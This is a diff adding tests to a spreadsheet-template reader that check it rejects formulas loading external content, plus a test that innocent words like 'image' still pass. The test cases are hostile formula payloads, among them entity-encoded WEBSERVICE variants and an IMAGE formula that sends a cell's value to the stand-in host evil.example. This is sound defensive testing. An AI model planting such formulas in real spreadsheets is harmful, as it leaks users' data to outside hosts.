@@ -184,6 +184,21 @@ test("a file of unclosed rows is refused at once", async () => {
   expect(performance.now() - started).toBeLessThan(5_000);
 });
 
+test.each([
+  "&#87;EBSERVICE(A5)",
+  "&#x57;EBSERVICE(A5)",
+  "IF(A5&lt;1,_xlfn.WEBSERVICE(A5),1)",
+  'IMAGE("https://evil.example/"&amp;A5)',
+])("a formula that loads another file is found: %s", async (formula) => {
+  const template = templateOfSheet((xml) => xml.replace("TODAY()", () => formula));
+  await expect(readTemplate(template)).rejects.toThrow("formulas that load other files");
+});
+
+test("the words of such formulas in texts are allowed", async () => {
+  const template = templateOfSheet((xml) => xml.replace("Policy no.", "Call (toll free), image (optional)"));
+  expect(await readTemplate(template)).toHaveLength(1);
+});
+
 test("examples below the headings, another kind of file and bombs are refused with the reason", async () => {
   const example = templateOfSheet((xml) => xml.replace('<c r="B5" s="2"/>', '<c r="B5" s="2"><v>7</v></c>'));
   await expect(readTemplate(example)).rejects.toThrow(
